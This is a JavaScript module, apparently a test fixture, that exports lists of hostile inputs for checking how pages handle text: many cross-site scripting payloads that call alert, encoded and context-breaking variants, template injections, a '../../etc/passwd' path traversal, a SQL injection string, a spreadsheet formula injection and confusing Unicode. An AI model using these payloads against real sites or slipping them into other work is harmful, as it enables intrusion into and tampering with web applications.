// Texts that run as a script where a page takes them for more than a text: out of an element, out of an attribute, as an address, for
// a template, for whoever decodes twice. Each of them would call `alert`.

const elements = [
  '<script>alert(1)</script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script src=data:,alert(1)></script>',
  '<img src=x onerror=alert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<img src=x onerror="alert`1`">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><img src=x onerror=alert(1)></mtext></math>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<iframe src="javascript:parent.alert(1)"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<link rel=stylesheet href="javascript:alert(1)">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<style>@import "javascript:alert(1)";</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<template><script>alert(1)</script></template>',
];

const endings = ['', '">', "'>", '</td>', '</textarea>', '</title>', '-->', ']]>'];

const others = [
  '" onmouseover="alert(1)',
  "' onmouseover='alert(1)",
  '` onmouseover=alert(1) `',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '<%= alert(1) %>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '＜script＞alert(1)＜/script＞',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  ');alert(1);//',
  '";alert(1);//',
  "\\';alert(1);//",
  '</script><script>alert(1)</script>',
];

/** Every element as it is, and each of a few behind every ending of what may be around it. */
export const payloads = [
  ...new Set([...elements, ...endings.flatMap((ending) => elements.slice(0, 10).map((element) => ending + element)), ...others]),
];

/** Texts that are no scripts, and that pages get wrong all the same: they turn the line around, are taken for nothing, never break. */
const strange = [
  '\u202Egpj.exe\u202C',
  'a\u2066b\u2069c',
  '\u2067\u202Ereversed',
  '\u200Fright to left',
  'no\u200Bwidth\u2060here',
  'soft\u00ADhyphen',
  'null',
  'undefined',
  'NaN',
  '[object Object]',
  '__proto__',
  'constructor',
  'true',
  '0',
  '-1',
  '../../etc/passwd',
  '%2e%2e%2f%2e%2e%2f',
  '\\0',
  "' or '1'='1",
  '=HYPERLINK("javascript:alert(1)")',
  '#{7*7}',
  '{{7*7}}',
  'x'.repeat(200),
  '字'.repeat(80),
  '\u{1d4b3}'.repeat(50),
  'Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032fa\u0334\u0335',
];

/** All of them. */
export const hostile = [...payloads, ...strange];
